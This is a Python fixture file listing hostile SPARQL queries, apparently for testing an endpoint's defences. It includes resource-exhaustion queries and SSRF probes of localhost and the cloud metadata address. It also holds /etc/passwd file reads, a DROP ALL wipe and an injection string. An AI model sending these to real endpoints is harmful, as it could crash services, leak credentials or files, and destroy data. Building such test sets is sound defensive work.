"""What somebody may ask of a SPARQL endpoint who means no good, by what it tries."""

from __future__ import annotations

QUERIES = {
    "cross product": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "million rows": "SELECT * { ?a ?b ?c . ?d ?e ?f } LIMIT 1000000",
    "sorted cross product": "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY DESC(CONCAT(STR(?c), STR(?f)))",
    "property path": "SELECT (COUNT(*) AS ?n) { ?a (<x:a>|!<x:a>)* ?b . ?b (<x:b>|!<x:b>)* ?c }",
    "inverse path": "SELECT * { ?a (!<x:a>|^!<x:a>)+ ?b } LIMIT 1000000",
    "regular expression": 'SELECT * { ?a ?b ?c FILTER REGEX(STR(?c), "(a|a?)+' + "(b|b*)" * 200 + '$") }',
    "growing text": "SELECT * { BIND(REPLACE('aaaa', '.', '" + "a" * 5000 + "') AS ?x) }",
    "deep nesting": "SELECT * " + "{" * 3000 + "}" * 3000,
    "deep brackets": "SELECT * { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }",
    "optionals": "SELECT * { ?s ?p ?o " + "".join(f"OPTIONAL {{ ?s ?p{n} ?o{n} }} " for n in range(12)) + "}",
    "service": "SELECT * { SERVICE <http://127.0.0.1:1/> { ?s ?p ?o } }",
    "service silent": "SELECT * { SERVICE SILENT <http://169.254.169.254/latest> { ?s ?p ?o } }",
    "from a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    "update": "DROP ALL",
    "insert": "INSERT DATA { <x:a> <x:b> <x:c> }",
    "load": "LOAD <file:///etc/passwd>",
    "no query": "\x00\ufffd' OR 1=1 --",
}
